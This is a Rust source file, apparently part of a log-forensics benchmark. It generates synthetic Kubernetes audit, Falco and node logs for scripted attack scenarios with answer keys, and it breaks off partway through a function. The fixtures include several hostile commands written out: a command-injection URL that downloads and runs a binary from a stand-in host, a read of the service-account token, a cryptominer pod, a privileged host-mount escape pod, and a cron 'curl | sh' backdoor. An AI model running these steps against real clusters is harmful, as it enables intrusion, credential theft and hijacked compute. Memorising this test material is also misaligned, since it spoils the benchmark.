//! The four attack stories, scripted line by line, and their answer keys.
//! Times that answers quote are fixed to the second; the seed moves only
//! sub-second parts, IDs and the background.

use super::cluster::{
    bound_token_extra, container_log_path, ServiceAccount, APISERVER_IP, CART, DEVS, FRONTEND,
    KCM_UA, KUBECTL_UA, KUBELET_UA, NODES, NODE_GROUPS, PODS, SCHED_UA,
};
use super::fmt::{date, SEC};
use super::records::{
    access_line, Alert, Audit, Falco, Ident, Obj, CONTACT_API_SERVER, PRIVILEGED_CONTAINER,
    READ_SENSITIVE_FILE, SENSITIVE_MOUNT, TERMINAL_SHELL,
};
use super::rng::name_uid;
use super::script::{secs, Script};
use super::AnswerKey;
use std::fmt::Write;

const ANON: Ident<'static> = Ident::user("system:anonymous", &["system:unauthenticated"]);

fn forbidden(
    user: &str,
    verb: &str,
    resource: &str,
    ns: Option<&str>,
    name: Option<&str>,
) -> String {
    let mut m = match name {
        Some(n) => format!(r#"{resource} "{n}" is forbidden: "#),
        None => format!("{resource} is forbidden: "),
    };
    let _ = write!(
        m,
        r#"User "{user}" cannot {verb} resource "{resource}" in API group """#
    );
    match ns {
        Some(ns) => {
            let _ = write!(m, r#" in the namespace "{ns}""#);
        }
        None => m.push_str(" at the cluster scope"),
    }
    m
}

/// A Falco alert on `host` with its output fields.
fn falco(s: &mut Script, t: i64, host: &str, alert: &Alert, fields: &[(&str, String)]) {
    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    s.falco(Falco {
        t,
        hostname: host,
        alert,
        fields: &fields,
    });
}

/// One request of a scripted client: at 02:MM:SS, verb, URI, object.
type Step<'a> = (u32, u32, &'a str, &'a str, Option<Obj<'a>>);

/// How every kubectl session starts: discovery (`/api`, `/apis`), then
/// nodes and pods listed cluster-wide, at these (minute, second) times.
fn kubectl_recon(at: [(u32, u32); 4]) -> [Step<'static>; 4] {
    [
        (at[0].0, at[0].1, "get", "/api?timeout=32s", None),
        (at[1].0, at[1].1, "get", "/apis?timeout=32s", None),
        (
            at[2].0,
            at[2].1,
            "list",
            "/api/v1/nodes?limit=500",
            Some(Obj::core("nodes", None, None)),
        ),
        (
            at[3].0,
            at[3].1,
            "list",
            "/api/v1/pods?limit=500",
            Some(Obj::core("pods", None, None)),
        ),
    ]
}

/// Allowed requests of one client (`who` from `ip` with user agent `ua`).
fn requests(s: &mut Script, steps: &[Step], who: Ident, (ip, ua): (&str, &str), reason: &str) {
    for &(m, sec, verb, uri, obj) in steps {
        let t = s.t(2, m, sec);
        let mut a = Audit::ok(t, verb, uri, who, ip, ua).reason(reason);
        a.obj = obj;
        s.audit(a);
    }
}

pub fn run(name: &str, s: &mut Script) {
    match name {
        "anonymous-to-admin" => anonymous_to_admin(s),
        "rce-to-node" => rce_to_node(s),
        "stolen-kubeconfig" => stolen_kubeconfig(s),
        "ssh-to-kubelet" => ssh_to_kubelet(s),
        _ => {}
    }
}

// ---------------------------------------------------------------- 1 ----

const ANON_IP: &str = "203.0.113.7";
const CURL_UA: &str = "curl/8.5.0";
const ATTACKER_KUBECTL: &str = "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225";

const STOLEN_SECRETS: [(&str, &str); 12] = [
    ("payments", "db-credentials"),
    ("payments", "stripe-api-key"),
    ("payments", "api-tls"),
    ("shop", "cart-redis-password"),
    ("shop", "frontend-session-key"),
    ("shop", "registry-pull"),
    ("monitoring", "grafana-admin"),
    ("monitoring", "alertmanager-slack-webhook"),
    ("argocd", "argocd-secret"),
    ("argocd", "repo-github-deploy-key"),
    ("kube-system", "bootstrap-token-7xk2pa"),
    ("ingress-nginx", "ingress-nginx-admission"),
];

fn anonymous_to_admin(s: &mut Script) {
    // A scanner (the same address) is refused before the misconfiguration.
    let probes = [
        (0, 41, "/api", None, 403),
        (0, 42, "/api/v1/namespaces/default/pods", Some("pods"), 403),
        (0, 44, "/version", None, 200),
    ];
    for (m, sec, uri, res, code) in probes {
        let t = s.t(2, m, sec);
        let mut a = Audit::ok(
            t,
            if res.is_some() { "list" } else { "get" },
            uri,
            ANON,
            ANON_IP,
            CURL_UA,
        );
        let msg;
        if let Some(r) = res {
            a = a.obj(Obj::core(r, Some("default"), None));
            msg = forbidden("system:anonymous", "list", r, Some("default"), None);
            a = a.fail(code, "Forbidden", &msg);
            s.audit(a);
        } else if code == 403 {
            msg = r#"forbidden: User "system:anonymous" cannot get path "/api""#.to_string();
            s.audit(a.fail(code, "Forbidden", &msg));
        } else {
            s.audit(a.reason(r#"RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated""#));
        }
    }

    // The bad binding: a "temporary" debugging shortcut.
    let carol = &DEVS[2];
    let carol_id = Ident::user(carol.name, carol.groups);
    let t = s.t(2, 1, 48);
    let body = r#"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"debug-anonymous-access","creationTimestamp":null,"annotations":{"corp.example/ticket":"OPS-4471"}},"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"system:anonymous"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"#;
    s.audit(
        Audit::ok(t, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict", carol_id, carol.ip, carol.ua)
            .obj(Obj::group("rbac.authorization.k8s.io", "v1", "clusterrolebindings", None, Some("debug-anonymous-access")))
            .code(201)
            .body(body)
            .reason(r#"RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "platform-admins""#),
    );

    let anon_ok = r#"RBAC: allowed by ClusterRoleBinding "debug-anonymous-access" of ClusterRole "cluster-admin" to User "system:anonymous""#;
    let t = s.t(2, 13, 2);
    s.audit(Audit::ok(t, "get", "/version", ANON, ANON_IP, CURL_UA).reason(anon_ok));
    let t = s.t(2, 13, 4);
    s.audit(
        Audit::ok(t, "list", "/api/v1/namespaces", ANON, ANON_IP, CURL_UA)
            .obj(Obj::core("namespaces", None, None))
            .reason(anon_ok),
    );
    let t = s.t(2, 13, 7);
    s.audit(
        Audit::ok(
            t,
            "list",
            "/api/v1/secrets?limit=500",
            ANON,
            ANON_IP,
            CURL_UA,
        )
        .obj(Obj::core("secrets", None, None))
        .reason(anon_ok)
        .latency(48_000),
    );
    for (i, (ns, name)) in STOLEN_SECRETS.iter().enumerate() {
        let t = s.t(2, 13, 10 + 3 * i as u32 + (i as u32 % 2));
        let uri = format!("/api/v1/namespaces/{ns}/secrets/{name}");
        s.audit(
            Audit::ok(t, "get", &uri, ANON, ANON_IP, CURL_UA)
                .obj(Obj::core("secrets", Some(ns), Some(name)))
                .reason(anon_ok),
        );
    }
    let t = s.t(2, 14, 30);
    s.audit(
        Audit::ok(
            t,
            "list",
            "/api/v1/namespaces/kube-system/serviceaccounts",
            ANON,
            ANON_IP,
            CURL_UA,
        )
        .obj(Obj::core("serviceaccounts", Some("kube-system"), None))
        .reason(anon_ok),
    );
    let t = s.t(2, 14, 41);
    s.audit(
        Audit::ok(
            t,
            "list",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            ANON,
            ANON_IP,
            CURL_UA,
        )
        .obj(Obj::group(
            "rbac.authorization.k8s.io",
            "v1",
            "clusterrolebindings",
            None,
            None,
        ))
        .reason(anon_ok),
    );
    // Persistence: a service account that looks like an add-on, made admin.
    let t = s.t(2, 15, 2);
    let body = r#"{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"metrics-agent","namespace":"kube-system","labels":{"app.kubernetes.io/name":"metrics-agent"}}}"#;
    s.audit(
        Audit::ok(
            t,
            "create",
            "/api/v1/namespaces/kube-system/serviceaccounts",
            ANON,
            ANON_IP,
            CURL_UA,
        )
        .obj(Obj::core(
            "serviceaccounts",
            Some("kube-system"),
            Some("metrics-agent"),
        ))
        .code(201)
        .body(body)
        .reason(anon_ok),
    );
    let t = s.t(2, 15, 9);
    let body = r#"{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"metrics-agent-admin"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","name":"metrics-agent","namespace":"kube-system"}]}"#;
    s.audit(
        Audit::ok(
            t,
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            ANON,
            ANON_IP,
            CURL_UA,
        )
        .obj(Obj::group(
            "rbac.authorization.k8s.io",
            "v1",
            "clusterrolebindings",
            None,
            Some("metrics-agent-admin"),
        ))
        .code(201)
        .body(body)
        .reason(anon_ok),
    );
    let t = s.t(2, 15, 20);
    let body = r#"{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}}"#;
    s.audit(
        Audit::ok(
            t,
            "create",
            "/api/v1/namespaces/kube-system/serviceaccounts/metrics-agent/token",
            ANON,
            ANON_IP,
            CURL_UA,
        )
        .obj(
            Obj::core(
                "serviceaccounts",
                Some("kube-system"),
                Some("metrics-agent"),
            )
            .sub("token"),
        )
        .code(201)
        .body(body)
        .reason(anon_ok),
    );
    // The new identity at work.
    let account = ServiceAccount::new("kube-system", "metrics-agent");
    let who = account.ident();
    let sa_ok = r#"RBAC: allowed by ClusterRoleBinding "metrics-agent-admin" of ClusterRole "cluster-admin" to ServiceAccount "metrics-agent/kube-system""#;
    let recon = kubectl_recon([(16, 31), (16, 32), (16, 34), (16, 37)]);
    let steps: [Step; 2] = [
        (
            16,
            40,
            "list",
            "/api/v1/secrets?limit=500",
            Some(Obj::core("secrets", None, None)),
        ),
        (
            17,
            5,
            "list",
            "/apis/apps/v1/deployments?limit=500",
            Some(Obj::group("apps", "v1", "deployments", None, None)),
        ),
    ];
    for steps in [&recon[..], &steps[..]] {
        requests(s, steps, who, (ANON_IP, ATTACKER_KUBECTL), sa_ok);
    }
}

// ---------------------------------------------------------------- 2 ----

const EXPLOIT_IP: &str = "198.51.100.23";
const C2_IP: &str = "203.0.113.45";
const POOL: &str = "stratum+tcp://203.0.113.80:3333";
const EXPLOIT_UA: &str = "python-requests/2.31.0";
const C2_KUBECTL: &str = "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b";
const MINER_POD: &str = "log-rotate-7x2kq";
const ESCAPE_POD: &str = "sys-check";

fn rce_to_node(s: &mut Script) {
    let w = s.w;
    let fe = &PODS[FRONTEND];
    let fe_log = w.log_path(FRONTEND);
    let fe_id = w.container_ids[FRONTEND][..12].to_string();
    let node = fe.node;
    let host = NODES[node].name;
    let gunicorn = |s: &mut Script, t: i64, msg: &str| {
        let mut line = String::from("[");
        super::fmt::iso(&mut line, t, ' ', ':', 0, " +0000] [12] [ERROR] ");
        line.push_str(msg);
        s.cri(&fe_log, t, "stderr", &line);
    };
    // Recon and the injection.
    let reqs = [
        (
            9,
            12,
            "GET /api/export?format=csv&file=report.csv HTTP/1.1",
            1834,
        ),
        (
            9,
            31,
            "GET /api/export?format=csv&file=report.csv%27 HTTP/1.1",
            1834,
        ),
        (
            9,
            40,
            "GET /api/export?format=csv&file=report.csv%3Bid HTTP/1.1",
            1901,
        ),
    ];
    for (m, sec, req, bytes) in reqs {
        let t = s.t(2, m, sec);
        let line = access_line(t, PODS[8].ip, req, 200, bytes, "-", EXPLOIT_UA);
        s.cri(&fe_log, t, "stdout", &line.replace(PODS[8].ip, EXPLOIT_IP));
    }
    let t = s.t(2, 9, 40);
    gunicorn(s, t, "export: convert failed: sh: 1: report.csv: not found");
    let t2 = s.after(t, 3);
    gunicorn(
        s,
        t2,
        "export: command output: uid=33(www-data) gid=33(www-data) groups=33(www-data)",
    );
    let shell_fields = |cmd: &'static str| -> Vec<(&'static str, String)> {
        vec![
            ("evt.type", "execve".into()),
            ("user.name", "www-data".into()),
            ("user.uid", "33".into()),
            ("proc.cmdline", cmd.into()),
            ("proc.name", "sh".into()),
            ("proc.pname", "gunicorn".into()),
            ("container.id", String::new()),
            ("container.name", "frontend".into()),
            ("k8s.ns.name", "shop".into()),
            ("k8s.pod.name", PODS[FRONTEND].name.into()),
        ]
    };
    let with_id = |mut f: Vec<(&'static str, String)>, id: &str| {
        for (k, v) in f.iter_mut() {
            if *k == "container.id" {
                *v = id.to_string();
            }
        }
        f
    };
    let t3 = s.after(t, 2);
    falco(
        s,
        t3,
        host,
        &Alert {
            rule: "Run shell untrusted",
            priority: "Notice",
            text: "Shell spawned by untrusted binary",
            tags: &[
                "T1059.004",
                "container",
                "host",
                "maturity_stable",
                "mitre_execution",
                "process",
                "shell",
            ],
        },
        &with_id(
            shell_fields("sh -c convert report.csv;id /tmp/export.csv"),
            &fe_id,
        ),
    );
    // Download and execute.
    let t = s.t(2, 10, 14);
    let line = access_line(
        t,
        EXPLOIT_IP,
        "GET /api/export?format=csv&file=x%3Bwget%20-q%20-O%20%2Ftmp%2Fkworker%20http%3A%2F%2F203.0.113.45%2Fkworker%3Bchmod%20%2Bx%20%2Ftmp%2Fkworker%3B%2Ftmp%2Fkworker HTTP/1.1",
        200,
        1901,
        "-",
        EXPLOIT_UA,
    );
    s.cri(&fe_log, t, "stdout", &line);
    let t = s.t(2, 10, 15);
    let day = date(t);
    for (i, msg) in [
        format!("export: command output: --{day} 02:10:15--  http://203.0.113.45/kworker"),
        "export: command output: Connecting to 203.0.113.45:80... connected.".into(),
        "export: command output: HTTP request sent, awaiting response... 200 OK".into(),
        "export: command output: Length: 2843104 (2.7M) [application/octet-stream]".into(),
        "export: command output: Saving to: '/tmp/kworker'".into(),
        format!("export: command output: {day} 02:10:16 (4.1 MB/s) - '/tmp/kworker' saved [2843104/2843104]"),
    ]
    .iter()
    .enumerate()
    {
        let ti = t + i as i64 * 90_000_000;
        gunicorn(s, ti, msg);
    }
    let t = s.t(2, 10, 16);
    let mut f = with_id(shell_fields("kworker"), &fe_id);
    f[4].1 = "kworker".into();
    f[5].1 = "sh".into();
    f.push(("proc.exepath", "/tmp/kworker".into()));
    falco(
        s,
        t,
        host,
        &Alert {
            rule: "Drop and execute new binary in container",
            priority: "Critical",
            text: "Executing binary not part of base image",
            tags: &[
                "T1610",
                "TA0003",
                "container",
                "maturity_stable",
                "mitre_persistence",
                "process",
            ],
        },
        &f,
    );
    // The service-account token.
    let t = s.t(2, 11, 2);
    let line = access_line(
        t,
        EXPLOIT_IP,
        "GET /api/export?format=csv&file=x%3Bcat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken HTTP/1.1",
        200,
        2712,
        "-",
        EXPLOIT_UA,
    );
    s.cri(&fe_log, t, "stdout", &line);
    let jwt_body = s.rng.hex(48);
    let t2 = s.after(t, 4);
    gunicorn(
        s,
        t2,
        &format!("export: command output: eyJhbGciOiJSUzI1NiIsImtpZCI6Im{jwt_body}"),
    );
    let mut f = with_id(
        shell_fields("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
        &fe_id,
    );
    f[4].1 = "cat".into();
    f[5].1 = "sh".into();
    f.push((
        "fd.name",
        "/var/run/secrets/kubernetes.io/serviceaccount/token".into(),
    ));
    let t3 = s.after(t, 5);
    falco(s, t3, host, &READ_SENSITIVE_FILE, &f);
    // In-cluster check of what the token may do.
    let account = ServiceAccount::new("shop", "frontend");
    let sa = &account.name;
    let jti = s.rng.uuid();
    let extra = bound_token_extra(fe, &jti);
    let who = Ident {
        extra: Some(&extra),
        ..account.ident()
    };
    let sa_ok = r#"RBAC: allowed by RoleBinding "frontend-deployer/shop" of ClusterRole "edit" to ServiceAccount "frontend/shop""#;
    let t = s.t(2, 11, 20);
    s.audit(
        Audit::ok(t, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", who, fe.ip, "kworker/0.1")
            .obj(Obj::group("authorization.k8s.io", "v1", "selfsubjectrulesreviews", None, None))
            .code(201)
            .body(r#"{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"shop"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}}"#)
            .reason(r#"RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole "system:basic-user" to Group "system:authenticated""#),
    );
    let mut f = with_id(shell_fields("kworker"), &fe_id);
    f[0].1 = "connect".into();
    f[4].1 = "kworker".into();
    f[5].1 = "sh".into();
    f.push(("fd.name", format!("{}:43118->10.96.0.1:443", fe.ip)));
    let t2 = s.after(t, 2);
    falco(s, t2, host, &CONTACT_API_SERVER, &f);
    // The token used from outside.
    let outside: [(u32, u32, &str, &str, Obj, u16); 6] = [
        (13, 45, "get", "/api?timeout=32s", Obj::default(), 200),
        (13, 46, "get", "/apis?timeout=32s", Obj::default(), 200),
        (
            13,
            49,
            "list",
            "/api/v1/namespaces/shop/pods?limit=500",
            Obj::core("pods", Some("shop"), None),
            200,
        ),
        (
            13,
            58,
            "list",
            "/api/v1/namespaces/shop/secrets?limit=500",
            Obj::core("secrets", Some("shop"), None),
            403,
        ),
        (
            14,
            3,
            "list",
            "/api/v1/pods?limit=500",
            Obj::core("pods", None, None),
            403,
        ),
        (
            14,
            20,
            "get",
            "/api/v1/namespaces/shop/pods/cart-6f7b9d5c4-8mzq2",
            Obj::core("pods", Some("shop"), Some(PODS[CART].name)),
            200,
        ),
    ];
    for (m, sec, verb, uri, obj, code) in outside {
        let t = s.t(2, m, sec);
        let mut a = Audit::ok(t, verb, uri, who, C2_IP, C2_KUBECTL);
        if !obj.resource.is_empty() {
            a = a.obj(obj);
        }
        let msg = forbidden(sa, verb, obj.resource, obj.namespace, None);
        a = if code == 403 {
            a.fail(403, "Forbidden", &msg)
        } else if obj.resource.is_empty() {
            a.reason(r#"RBAC: allowed by ClusterRoleBinding "system:discovery" of ClusterRole "system:discovery" to Group "system:authenticated""#)
        } else {
            a.reason(sa_ok)
        };
        s.audit(a);
    }
    // Exec into the cart pod.
    let cart = &PODS[CART];
    let t = s.t(2, 15, 33);
    let uri = format!(
        "/api/v1/namespaces/shop/pods/{}/exec?command=sh&container=cart&stdin=true&stdout=true&tty=true",
        cart.name
    );
    s.audit(
        Audit::ok(t, "create", &uri, who, C2_IP, C2_KUBECTL)
            .obj(Obj::core("pods", Some("shop"), Some(cart.name)).sub("exec"))
            .code(101)
            .reason(sa_ok)
            .latency(94_000_000),
    );
    let cart_id = w.container_ids[CART][..12].to_string();
    let t2 = s.after(t, 400);
    let f: Vec<(&str, String)> = vec![
        ("evt.type", "execve".into()),
        ("user.name", "root".into()),
        ("user.uid", "0".into()),
        ("proc.cmdline", "sh".into()),
        ("proc.name", "sh".into()),
        ("proc.pname", "runc".into()),
        ("container.id", cart_id),
        ("container.name", "cart".into()),
        ("k8s.ns.name", "shop".into()),
        ("k8s.pod.name", cart.name.into()),
    ];
    falco(s, t2, NODES[cart.node].name, &TERMINAL_SHELL, &f);
    // The miner, in a privileged pod.
    let miner_cmd = format!("wget -qO /tmp/xmrig http://203.0.113.45/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o {POOL} -u 4AdUndXHHZ9pfQj27iMAjAr4xTDXXjLWRh4P4Ym3X3KxG7PvNGdJgxsUc8nZmwDPb7GFVYGs4bLprFVfMbnxNw6tYZ3Px4h -k --donate-level 1");
    let miner_body = format!(
        r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{MINER_POD}","namespace":"shop","creationTimestamp":null,"labels":{{"app":"log-rotate"}}}},"spec":{{"containers":[{{"name":"log-rotate","image":"docker.io/library/alpine:3.19","command":["sh","-c",{}],"resources":{{}},"securityContext":{{"privileged":true}}}}],"restartPolicy":"Always","serviceAccountName":"frontend"}},"status":{{}}}}"#,
        super::fmt::quoted(&miner_cmd)
    );
    let t = s.t(2, 17, 10);
    s.audit(
        Audit::ok(
            t,
            "create",
            "/api/v1/namespaces/shop/pods?fieldManager=kubectl-run",
            who,
            C2_IP,
            C2_KUBECTL,
        )
        .obj(Obj::core("pods", Some("shop"), Some(MINER_POD)))
        .code(201)
        .body(&miner_body)
        .reason(sa_ok),
    );
    let sched = Ident::user("system:kube-scheduler", &["system:authenticated"]);
    let tb = s.after(t, 30);
    let bind_uri = format!("/api/v1/namespaces/shop/pods/{MINER_POD}/binding");
    let bind_body = format!(
        r#"{{"kind":"Binding","apiVersion":"v1","metadata":{{"name":"{MINER_POD}","namespace":"shop","uid":"{}","creationTimestamp":null}},"target":{{"kind":"Node","name":"{host}"}}}}"#,
        name_uid(MINER_POD)
    );
    s.audit(
        Audit::ok(tb, "create", &bind_uri, sched, APISERVER_IP, SCHED_UA)
            .obj(Obj::core("pods", Some("shop"), Some(MINER_POD)).sub("binding"))
            .code(201)
            .body(&bind_body)
            .reason(r#"RBAC: allowed by ClusterRoleBinding "system:kube-scheduler" of ClusterRole "system:kube-scheduler" to User "system:kube-scheduler""#),
    );
    let miner_id = s.rng.hex(64);
    let miner_log = container_log_path(MINER_POD, "shop", "log-rotate", &miner_id);
    let ts = s.after(tb, 600);
    start_pod(s, node, "shop", MINER_POD, &miner_id, ts, "api");
    let t = s.t(2, 17, 13);
    let f = started_fields(
        &miner_id,
        "docker.io/library/alpine",
        "log-rotate",
        MINER_POD,
    );
    falco(s, t, host, &PRIVILEGED_CONTAINER, &f);
    let ts = s.t(2, 17, 16);
    let end = s.at(2, 39, 30);
    miner_output(s, &miner_log, ts, end);
    let t = s.t(2, 17, 17);
    let f: Vec<(&str, String)> = vec![
        ("evt.type", "connect".into()),
        ("user.name", "root".into()),
        ("user.uid", "0".into()),
        (
            "proc.cmdline",
            format!("xmrig -o {POOL} -k --donate-level 1"),
        ),
        ("proc.name", "xmrig".into()),
        ("fd.name", "10.244.2.41:50312->203.0.113.80:3333".into()),
        ("container.id", miner_id[..12].into()),
        ("container.name", "log-rotate".into()),
        ("k8s.ns.name", "shop".into()),
        ("k8s.pod.name", MINER_POD.into()),
    ];
    falco(
        s,
        t,
        host,
        &Alert {
            rule: "Detect crypto miners using the Stratum protocol",
            priority: "Critical",
            text: "Possible miner running",
            tags: &[
                "T1496",
                "container",
                "maturity_stable",
                "mitre_impact",
                "process",
            ],
        },
        &f,
    );
    // Escape: privileged, hostPID, hostPath / on the same node.
    let esc_body = format!(
        r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{ESCAPE_POD}","namespace":"shop","creationTimestamp":null}},"spec":{{"volumes":[{{"name":"host","hostPath":{{"path":"/","type":""}}}}],"containers":[{{"name":"sys-check","image":"docker.io/library/ubuntu:22.04","command":["sleep","infinity"],"resources":{{}},"volumeMounts":[{{"name":"host","mountPath":"/host"}}],"securityContext":{{"privileged":true,"capabilities":{{"add":["SYS_ADMIN","SYS_PTRACE"]}}}}}}],"restartPolicy":"Never","nodeName":"{host}","hostNetwork":true,"hostPID":true,"hostIPC":true,"tolerations":[{{"operator":"Exists"}}]}},"status":{{}}}}"#
    );
    let t = s.t(2, 20, 52);
    s.audit(
        Audit::ok(t, "create", "/api/v1/namespaces/shop/pods?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", who, C2_IP, C2_KUBECTL)
            .obj(Obj::core("pods", Some("shop"), Some(ESCAPE_POD)))
            .code(201)
            .body(&esc_body)
            .reason(sa_ok),
    );
    let esc_id = s.rng.hex(64);
    let ts = s.after(t, 700);
    start_pod(s, node, "shop", ESCAPE_POD, &esc_id, ts, "api");
    let t = s.t(2, 20, 55);
    let mut f = started_fields(&esc_id, "docker.io/library/ubuntu", "sys-check", ESCAPE_POD);
    falco(s, t, host, &PRIVILEGED_CONTAINER, &f);
    f.push(("container.mounts", "/:/host::true:rprivate".into()));
    let t2 = s.after(t, 2);
    falco(s, t2, host, &SENSITIVE_MOUNT, &f);
    let t = s.t(2, 21, 30);
    let uri = format!(
        "/api/v1/namespaces/shop/pods/{ESCAPE_POD}/exec?command=chroot&command=%2Fhost&command=bash&container=sys-check&stdin=true&stdout=true&tty=true"
    );
    s.audit(
        Audit::ok(t, "create", &uri, who, C2_IP, C2_KUBECTL)
            .obj(Obj::core("pods", Some("shop"), Some(ESCAPE_POD)).sub("exec"))
            .code(101)
            .reason(sa_ok)
            .latency(612_000_000),
    );
    let esc_short = esc_id[..12].to_string();
    let on_host = |cmd: &str, name: &str, pname: &str| -> Vec<(&'static str, String)> {
        vec![
            ("evt.type", "execve".into()),
            ("user.name", "root".into()),
            ("user.uid", "0".into()),
            ("proc.cmdline", cmd.into()),
            ("proc.name", name.into()),
            ("proc.pname", pname.into()),
            ("container.id", esc_short.clone()),
            ("container.name", "sys-check".into()),
            ("k8s.ns.name", "shop".into()),
            ("k8s.pod.name", ESCAPE_POD.into()),
        ]
    };
    let t2 = s.after(t, 500);
    falco(
        s,
        t2,
        host,
        &TERMINAL_SHELL,
        &on_host("bash", "bash", "chroot"),
    );
    let t = s.t(2, 21, 58);
    let mut f = on_host("cat /etc/shadow", "cat", "bash");
    f[0].1 = "openat".into();
    f.push(("fd.name", "/etc/shadow".into()));
    falco(s, t, host, &READ_SENSITIVE_FILE, &f);
    // Node persistence, seen by the node's own logs.
    let t = s.t(2, 22, 40);
    s.auth(
        node,
        t,
        "useradd[41233]",
        "new group: name=kube-svc, GID=1001",
    );
    let t2 = s.after(t, 5);
    s.auth(node, t2, "useradd[41233]", "new user: name=kube-svc, UID=1001, GID=1001, home=/home/kube-svc, shell=/bin/bash, from=/dev/pts/1");
    let t3 = s.t(2, 22, 49);
    s.auth(node, t3, "usermod[41240]", "add 'kube-svc' to group 'sudo'");
    let t4 = s.after(t3, 4);
    s.auth(
        node,
        t4,
        "usermod[41240]",
        "add 'kube-svc' to shadow group 'sudo'",
    );
    let t = s.t(2, 23, 10);
    s.syslog(node, t, "crontab[41266]", "(root) REPLACE (root)");
    let mut f = on_host("crontab /tmp/.c", "crontab", "bash");
    f[0].1 = "open".into();
    f.push(("fd.name", "/var/spool/cron/crontabs/tmp.Xk2pQa".into()));
    let t2 = s.after(t, 3);
    falco(
        s,
        t2,
        host,
        &Alert {
            rule: "Schedule Cron Jobs",
            priority: "Notice",
            text: "Cron jobs were scheduled to run",
            tags: &[
                "T1053.003",
                "container",
                "filesystem",
                "host",
                "maturity_incubating",
                "mitre_execution",
            ],
        },
        &f,
    );
    let t = s.t(2, 24, 0);
    s.syslog(node, t, "cron[598]", "(root) RELOAD (crontabs/root)");
    for m in [30u32, 35] {
        let t = s.t(2, m, 1);
        s.syslog(
            node,
            t,
            &format!("CRON[{}]", 41500 + m),
            "(root) CMD (curl -fsSL http://203.0.113.45/s.sh | sh >/dev/null 2>&1)",
        );
    }
}

/// Kubelet and containerd noticing a new pod on `node`.
/// Falco's fields for a container of a `shop` pod starting (`evt.type`
/// container).
fn started_fields(
    id: &str,
    image: &str,
    container: &str,
    pod: &str,
) -> Vec<(&'static str, String)> {
    let short = &id[..12];
    vec![
        ("evt.type", "container".into()),
        ("user.name", "root".into()),
        ("user.uid", "0".into()),
        ("proc.cmdline", format!("container:{short}")),
        ("container.id", short.into()),
        ("container.image.repository", image.into()),
        ("container.name", container.into()),
        ("k8s.ns.name", "shop".into()),
        ("k8s.pod.name", pod.into()),
    ]
}

fn start_pod(s: &mut Script, node: usize, ns: &str, pod: &str, cid: &str, t: i64, source: &str) {
    let full = format!("{ns}/{pod}");
    s.klog(
        node,
        t,
        'I',
        "kubelet.go:2429",
        &format!(r#""SyncLoop ADD" source="{source}" pods=["{full}"]"#),
    );
    let t1 = s.after(t, 40);
    s.klog(
        node,
        t1,
        'I',
        "util.go:30",
        &format!(r#""No sandbox for pod can be found. Need to start a new one" pod="{full}""#),
    );
    let sandbox = s.rng.hex(64);
    let t2 = s.after(t, 900);
    let mut ts = String::new();
    rfc3339_nanos_into(&mut ts, t2);
    let containerd = format!("containerd[{}]", s.w.containerd_pids[node]);
    s.syslog(node, t2, &containerd, &format!(r#"time="{ts}" level=info msg="RunPodSandbox for &PodSandboxMetadata{{Name:{pod},Uid:{},Namespace:{ns},Attempt:0,}} returns sandbox id \"{sandbox}\"""#, name_uid(pod)));
    let t3 = s.after(t, 2200);
    s.syslog(
        node,
        t3,
        "systemd[1]",
        &format!("Started cri-containerd-{cid}.scope - libcontainer container {cid}."),
    );
    let t4 = s.after(t3, 60);
    ts.clear();
    rfc3339_nanos_into(&mut ts, t4);
    s.syslog(
        node,
        t4,
        &containerd,
        &format!(
            r#"time="{ts}" level=info msg="StartContainer for \"{cid}\" returns successfully""#
        ),
    );
    let t5 = s.after(t4, 300);
    s.klog(node, t5, 'I', "kubelet.go:2461", &format!(r#""SyncLoop (PLEG): event for pod" pod="{full}" event={{"ID":"{}","Type":"ContainerStarted","Data":"{cid}"}}"#, name_uid(pod)));
}

fn rfc3339_nanos_into(out: &mut String, t: i64) {
    super::fmt::rfc3339_nanos(out, t);
}

fn miner_output(s: &mut Script, path: &str, start: i64, end: i64) {
    let banner = [
        " * ABOUT        XMRig/6.21.0 gcc/11.2.1 (built for Linux x86-64, 64 bit)",
        " * LIBS         libuv/1.44.2 OpenSSL/3.0.12 hwloc/2.9.3",
        " * HUGE PAGES   supported",
        " * 1GB PAGES    disabled",
        " * CPU          Intel(R) Xeon(R) Platinum 8259CL CPU @ 2.50GHz (1) 64-bit AES",
        " * MEMORY       2.1/15.4 GB (14%)",
        " * DONATE       1%",
        " * POOL #1      stratum+tcp://203.0.113.80:3333 algo auto",
        " * COMMANDS     hashrate, pause, resume, results, connection",
    ];
    let mut t = start;
    for line in banner {
        s.cri(path, t, "stdout", line);
        t += 1_000_000;
    }
    let stamp = |t: i64| {
        let mut out = String::from("[");
